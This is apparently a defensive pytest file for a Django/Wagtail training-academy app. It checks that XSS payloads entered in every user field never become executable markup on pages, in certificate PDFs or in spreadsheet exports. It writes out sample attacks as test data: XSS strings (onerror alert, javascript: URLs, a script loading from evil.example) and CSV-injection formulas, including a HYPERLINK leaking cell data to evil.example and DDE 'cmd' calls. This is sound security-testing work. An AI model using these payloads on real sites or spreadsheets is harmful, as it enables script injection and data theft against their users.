"""The XSS corpus (tests/enrolments/xss_corpus.py) through every place a trainee,
an instructor or an admin writes text, and every page that shows it, the admin
included: no payload may turn into an executable element.

Each payload is prefixed with a marker, `xss-NN`, so the test also proves the
text reached the page (escaped) rather than passing because it was not shown.
Entry points, used the way people use them: the profile form (full name), the
Organisations edit view (name), the assignment service (submission text), the
grading view (feedback), the certificate Templates edit view (wording and
signatories), course pages made as an instructor would (title, summary) and the
rejection service (reason). Run with
`make test PYTEST_ARGS=tests/test_xss_everywhere.py`; figures in
docs/reliability.md.
"""

import csv
import io
import os
import re
from html import escape
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from certificates.models import CertificateTemplate, Kind
from certificates.services.issuing import certificate_request
from enrolments.models import Enrolment, Organisation
from enrolments.services import enrolment_create
from enrolments.services.assignments import submission_submit
from enrolments.services.enrolment import enrolment_reject
from tests.enrolments.xss_corpus import PAYLOADS
from tests.factories import (
    CourseIndexPageFactory,
    CoursePageFactory,
    CourseRunFactory,
    InstructorFactory,
    MeetingFactory,
    ModulePageFactory,
    OrganisationFactory,
    TraineeProfileFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

# Every third payload (23 of 68, each block of the corpus represented) keeps the
# file under a minute; XSS_CORPUS=full runs all of them, in worlds of 17.
FULL = os.environ.get("XSS_CORPUS", "").lower() == "full"
NUMBERED = list(enumerate(PAYLOADS))
CHUNKS = (
    [NUMBERED[i : i + 17] for i in range(0, len(NUMBERED), 17)]
    if FULL
    else [NUMBERED[::3]]
)
# What the corpus's payloads run or load once they become markup.
SIGNS = ("alert", "msgbox", "evil.example", "x.htc", "phn2zy", "phnjcmlwd")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg")
LINK_ATTRS = {"href", "action", "formaction", "xlink:href", "background", "poster"}
LOAD_ATTRS = {"src", "data", "srcdoc", "srcset"}
VIDEO_HOSTS = ("https://www.youtube-nocookie.com/", "https://player.vimeo.com/")
_INVISIBLE = re.compile(r"[\x00-\x20]+")
_CONTROL = re.compile(r"[\x00-\x1f]")


def marked(number: int, payload: str) -> str:
    return f"xss-{number:02d} {payload}"


class ExecutableFinder(HTMLParser):
    """Finds markup a payload could execute through: on* handlers carrying
    payload code, script/javascript:/data: URLs, inline scripts and styles
    carrying payload code, frames and objects loading anything but our video
    hosts. Pages and Wagtail's own inline bits carry none of the SIGNS."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.holes: list[str] = []
        self._raw_tag: str | None = None

    def handle_starttag(self, tag, attrs):
        shown = self.get_starttag_text()
        for name, value in attrs:
            value = value or ""
            flat = _INVISIBLE.sub("", value).lower()
            if name.startswith("on") and any(s in flat for s in SIGNS):
                self.holes.append(f"handler: {shown}")
            elif name in LINK_ATTRS | LOAD_ATTRS and flat.startswith(DANGEROUS_SCHEMES):
                self.holes.append(f"dangerous URL: {shown}")
            elif name in LOAD_ATTRS and any(s in flat for s in SIGNS):
                self.holes.append(f"loads payload code: {shown}")
            elif name == "style" and ("expression(" in flat or "url(" in flat):
                self.holes.append(f"style attribute: {shown}")
            elif name == "content" and "javascript" in flat:
                self.holes.append(f"meta refresh: {shown}")
        if tag in {"iframe", "frame", "object", "embed", "applet", "base"}:
            src = dict(attrs).get("src") or ""
            if not (tag == "iframe" and src.startswith(VIDEO_HOSTS)):
                self.holes.append(f"<{tag}>: {shown}")
        if tag in {"script", "style"}:
            self._raw_tag = tag

    def handle_data(self, data):
        if self._raw_tag and any(s in data.lower() for s in SIGNS):
            self.holes.append(f"<{self._raw_tag}> with payload code: {data[:80]!r}")

    def handle_endtag(self, tag):
        if tag == self._raw_tag:
            self._raw_tag = None


def executable_markup(html: str) -> list[str]:
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.holes


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def assignment_block() -> dict:
    return {
        "type": "assignment",
        "id": "a-1",
        "value": {
            "title": "Essay",
            "instructions": "<p>Write about Kubernetes.</p>",
            "deadline": None,
            "max_points": "100",
            "accepts": "text",
            "required": True,
        },
    }


class World:
    """One academy whose every user-written text is a payload of the chunk."""

    def __init__(self, chunk, admin_client, admin_user, capture_on_commit):
        self.chunk = chunk
        self.admin = admin_client
        self.catalogue = CourseIndexPageFactory()
        self.teacher = UserFactory()
        self.instructor = InstructorFactory(user=self.teacher)
        self.teacher_client = logged_in(self.teacher)
        self.template = self.edit_certificate_template()
        self.items = []
        for number, payload in chunk:
            self.items.append(
                self.write_item(number, marked(number, payload), admin_user)
            )
        with capture_on_commit(execute=True):
            for item in self.items:
                item["certificate"] = certificate_request(
                    enrolment=item["enrolment"], kind=Kind.COMPLETION
                )
        for item in self.items:
            item["certificate"].refresh_from_db()

    def edit_certificate_template(self) -> CertificateTemplate:
        """Wording and signatories typed into the Templates edit view."""
        template = CertificateTemplate.objects.create(
            name="Completion", kind=Kind.COMPLETION, language="en"
        )
        texts = [marked(n, p) for n, p in self.chunk]
        fields = ["heading", "statement", "signatory_1_name", "signatory_1_title"]
        fields += ["signatory_2_name", "signatory_2_title", "name"]
        data = {field: texts[i % len(texts)] for i, field in enumerate(fields)}
        data |= {"kind": "completion", "audience": "any", "language": "en"}
        data["is_active"] = "on"
        edit = reverse("certificate_templates:edit", args=[template.pk])
        response = self.admin.post(edit, data)
        assert response.status_code == 302, response.content.decode()[:2000]
        template.refresh_from_db()
        assert template.heading == data["heading"]
        self.template_texts = [data[f] for f in fields]
        return template

    def write_item(self, number, text, admin_user) -> dict:
        course = CoursePageFactory(
            parent=self.catalogue, title=text, summary=text, pass_mark_percent=50
        )
        module = ModulePageFactory(parent=course, body=[assignment_block()])
        run = CourseRunFactory(course=course)
        run.instructors.add(self.instructor)
        run.save()  # as the admin form does: saving grants the teaching group
        meeting = MeetingFactory(run=run)

        organisation = OrganisationFactory()
        self.edit_organisation(organisation, text)

        trainee = TraineeProfileFactory(full_name=f"Trainee {number}")
        trainee_client = logged_in(trainee.user)
        response = trainee_client.post(
            reverse("accounts:profile"),
            {
                "full_name": text,
                "organisation": organisation.pk,
                "preferred_language": trainee.preferred_language,
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        trainee.refresh_from_db()
        # Kept as typed, but for whitespace, made single spaces for the PDF.
        assert trainee.full_name == " ".join(text.split())

        enrolment = enrolment_create(trainee=trainee, run=run)
        submission = submission_submit(
            enrolment=enrolment, module=module, assignment_id="a-1", text_html=text
        )
        response = self.teacher_client.post(
            reverse("learning:submission_grade", args=[submission.pk]),
            {"score": "80", "feedback": text},
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        submission.refresh_from_db()
        assert f"xss-{number:02d}" in submission.feedback_html
        Enrolment.objects.filter(pk=enrolment.pk).update(outcome="completion")
        enrolment.refresh_from_db()

        rejected = TraineeProfileFactory(full_name=f"Rejected {number}")
        refused = enrolment_create(trainee=rejected, run=run)
        Enrolment.objects.filter(pk=refused.pk).update(status="pending")
        refused = enrolment_reject(enrolment=refused, by=admin_user, reason=text)
        return {
            "number": number,
            "text": text,
            "course": course,
            "module": module,
            "run": run,
            "meeting": meeting,
            "organisation": organisation,
            "trainee": trainee,
            "trainee_client": trainee_client,
            "enrolment": enrolment,
            "submission": submission,
            "rejected_client": logged_in(rejected.user),
            "refused": refused,
        }

    def edit_organisation(self, organisation: Organisation, name: str) -> None:
        edit = reverse(
            "wagtailsnippets_enrolments_organisation:edit", args=[organisation.pk]
        )
        data = {
            "name": name,
            "pib": organisation.pib,
            "contact_name": name,
            "contact_email": "",
            "contact_phone": "",
            "address": name,
            "membership_periods-TOTAL_FORMS": "0",
            "membership_periods-INITIAL_FORMS": "0",
            "membership_periods-MIN_NUM_FORMS": "0",
            "membership_periods-MAX_NUM_FORMS": "1000",
            "domains-TOTAL_FORMS": "0",
            "domains-INITIAL_FORMS": "0",
            "domains-MIN_NUM_FORMS": "0",
            "domains-MAX_NUM_FORMS": "1000",
        }
        response = self.admin.post(edit, data)
        assert response.status_code == 302, response.content.decode()[:3000]
        organisation.refresh_from_db()
        assert organisation.name == name

    def item_pages(self, item) -> list[tuple[str, Client, str, bool]]:
        """(page, client, URL, whether the item's text must show) per item."""
        a = self.admin
        pk = item["enrolment"].pk
        return [
            ("course page", Client(), item["course"].url, True),
            ("my learning", item["trainee_client"], reverse("learning:home"), True),
            (
                "my learning (rejected)",
                item["rejected_client"],
                reverse("learning:home"),
                True,
            ),
            ("your data", item["trainee_client"], reverse("accounts:data"), True),
            (
                "assignment",
                item["trainee_client"],
                reverse("learning:assignment", args=[item["module"].pk, "a-1"]),
                True,
            ),
            (
                "verification",
                Client(),
                reverse(
                    "certificates:verify",
                    args=[item["certificate"].verification_code],
                ),
                True,
            ),
            (
                "grading page",
                self.teacher_client,
                reverse("learning:submission_grade", args=[item["submission"].pk]),
                True,
            ),
            (
                "gradebook",
                self.teacher_client,
                reverse("teaching:gradebook", args=[item["run"].pk]),
                True,
            ),
            (
                "register",
                self.teacher_client,
                reverse("teaching:register", args=[item["meeting"].pk]),
                True,
            ),
            (
                "admin trainee inspect",
                a,
                reverse("trainees:inspect", args=[item["trainee"].pk]),
                True,
            ),
            (
                "admin enrolment inspect",
                a,
                reverse("wagtailsnippets_enrolments_enrolment:inspect", args=[pk]),
                True,
            ),
            (
                "admin rejected enrolment inspect",
                a,
                reverse(
                    "wagtailsnippets_enrolments_enrolment:inspect",
                    args=[item["refused"].pk],
                ),
                True,
            ),
            (
                "admin organisation edit",
                a,
                reverse(
                    "wagtailsnippets_enrolments_organisation:edit",
                    args=[item["organisation"].pk],
                ),
                True,
            ),
            (
                "admin certificate inspect",
                a,
                reverse("certificates_admin:inspect", args=[item["certificate"].pk]),
                True,
            ),
        ]

    def shared_pages(self) -> list[tuple[str, Client, str, bool]]:
        a = self.admin
        return [
            ("catalogue", Client(), self.catalogue.url, True),
            ("dashboard", a, reverse("wagtailadmin_home"), False),
            ("site history", a, reverse("wagtailadmin_reports:site_history"), True),
            (
                "enrolments",
                a,
                reverse("wagtailsnippets_enrolments_enrolment:list"),
                True,
            ),
            ("trainees", a, reverse("trainees:index"), True),
            (
                "organisations",
                a,
                reverse("wagtailsnippets_enrolments_organisation:list"),
                True,
            ),
            ("certificates", a, reverse("certificates_admin:list"), True),
            ("templates", a, reverse("certificate_templates:list"), True),
            (
                "template edit",
                a,
                reverse("certificate_templates:edit", args=[self.template.pk]),
                True,
            ),
            ("my runs", self.teacher_client, reverse("teaching:runs"), True),
        ] + [
            (f"report {name}", a, reverse(name), False)
            for name in (
                "academy_reports:enrolments_by_course",
                "academy_reports:members",
                "academy_reports:completion",
                "academy_reports:revenue",
                "certificate_reports:issued",
                "certificate_reports:organisation",
            )
        ]


@pytest.fixture
def world_for(admin_client, admin_user, django_capture_on_commit_callbacks):
    def build(chunk):
        return World(
            chunk, admin_client, admin_user, django_capture_on_commit_callbacks
        )

    return build


def check_page(name, client, url, markers, must_show) -> list[str]:
    response = client.get(url)
    if response.status_code != 200:
        return [f"{name} {url}: status {response.status_code}"]
    html = response.content.decode()
    problems = [f"{name} {url}: {hole}" for hole in executable_markup(html)]
    if must_show and not any(marker in html for marker in markers):
        problems.append(f"{name} {url}: shows none of {markers[:3]}…")
    return problems


@pytest.mark.parametrize("chunk", range(len(CHUNKS)), ids=lambda n: f"chunk{n}")
def test_no_payload_becomes_executable_markup_on_any_page(chunk, world_for):
    world = world_for(CHUNKS[chunk])
    markers = [f"xss-{number:02d}" for number, _ in CHUNKS[chunk]]
    problems = []
    for name, client, url, must_show in world.shared_pages():
        problems += check_page(name, client, url, markers, must_show)
    for item in world.items:
        marker = f"xss-{item['number']:02d}"
        for name, client, url, must_show in world.item_pages(item):
            problems += check_page(name, client, url, [marker], must_show)
        problems += check_pdf(item)
    assert not problems, "\n".join(problems)


def check_pdf(item) -> list[str]:
    """The certificate PDF prints the name and course title (both the payload)
    as literal text: nothing in it is parsed as markup."""
    certificate = item["certificate"]
    with certificate.pdf.storage.open(certificate.pdf.name, "rb") as handle:
        text = " ".join(page.extract_text() for page in PdfReader(handle).pages)
    flat = " ".join(_CONTROL.sub(" ", text).split())
    # A tab has no glyph in the certificate font: it prints as an empty box
    # (reported, not an XSS matter), so control characters count as spaces.
    expected = " ".join(_CONTROL.sub(" ", item["text"]).split())
    if expected in flat:
        return []
    return [
        f"certificate PDF of xss-{item['number']:02d}: {expected!r} not in {flat!r}"
    ]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_exports_keep_formula_payloads_as_text(admin_client, world_for):
    """Names written as spreadsheet formulas come out of every export as text
    (a leading apostrophe), and exports are downloads, never rendered HTML."""
    world = world_for(CHUNKS[0][:1])
    item = world.items[0]
    run = item["run"]
    for formula in FORMULAS:
        trainee = TraineeProfileFactory(full_name=formula)
        enrolment_create(trainee=trainee, run=run)
    teacher = world.teacher_client
    exports = {
        "attendance csv": (teacher, reverse("teaching:export_csv", args=[run.pk])),
        "attendance xlsx": (teacher, reverse("teaching:export_xlsx", args=[run.pk])),
        "gradebook csv": (teacher, reverse("teaching:gradebook_csv", args=[run.pk])),
        "gradebook xlsx": (teacher, reverse("teaching:gradebook_xlsx", args=[run.pk])),
        "admin enrolments csv": (
            admin_client,
            reverse("wagtailsnippets_enrolments_enrolment:list") + "?export=csv",
        ),
        "admin enrolments xlsx": (
            admin_client,
            reverse("wagtailsnippets_enrolments_enrolment:list") + "?export=xlsx",
        ),
    }
    problems = []
    for name, (client, url) in exports.items():
        response = client.get(url)
        if response.status_code != 200:
            problems.append(f"{name}: status {response.status_code}")
            continue
        body = (
            b"".join(response.streaming_content)
            if response.streaming
            else (response.content)
        )
        if "html" in response["Content-Type"]:
            problems.append(f"{name}: served as {response['Content-Type']}")
        cells = spreadsheet_cells(body, xlsx=name.endswith("xlsx"))
        for formula in FORMULAS:
            shown = [(text, f) for text, f in cells if formula.strip() in text]
            if not shown:
                problems.append(f"{name}: {formula!r} missing")
            if any(is_formula for _, is_formula in shown):
                problems.append(f"{name}: {formula!r} left as a formula")
        if not any(item["text"] in text for text, _ in cells):
            problems.append(f"{name}: the XSS payload is missing")
    assert not problems, "\n".join(problems)


def spreadsheet_cells(body: bytes, *, xlsx: bool) -> list[tuple[str, bool]]:
    """(text, whether a spreadsheet would evaluate it) for every cell."""
    if xlsx:
        sheet = load_workbook(io.BytesIO(body)).active
        return [
            (str(c.value), c.data_type == "f")
            for row in sheet.iter_rows()
            for c in row
            if c.value is not None
        ]
    text = body.decode("utf-8-sig")
    return [
        (cell, cell.startswith(("=", "+", "-", "@", "\t", "\r")))
        for row in csv.reader(io.StringIO(text))
        for cell in row
    ]


def test_the_finder_catches_each_kind_of_executable_markup():
    """The check itself: it flags what a browser would run and passes what the
    pages show for the corpus, escaped."""
    caught = [
        "<img src=x onerror=alert(1)>",
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        "<script>alert(1)</script>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<script src="//evil.example/x.js"></script>',
    ]
    for html in caught:
        assert executable_markup(html), html
    for payload in PAYLOADS:
        assert executable_markup(f"<p>{escape(payload)}</p>") == [], payload
    assert (
        executable_markup(
            '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'
        )
        == []
    )


def test_the_sample_covers_every_block_of_the_corpus():
    numbers = {number for chunk in CHUNKS for number, _ in chunk}
    assert len(numbers) >= 20
    # At most two payloads skipped between sampled ones: no block of the corpus
    # (scripts, handlers, URLs, SVG/MathML, frames, style, comments) is skipped.
    ordered = sorted(numbers)
    assert max(b - a for a, b in zip(ordered, ordered[1:], strict=False)) <= 3
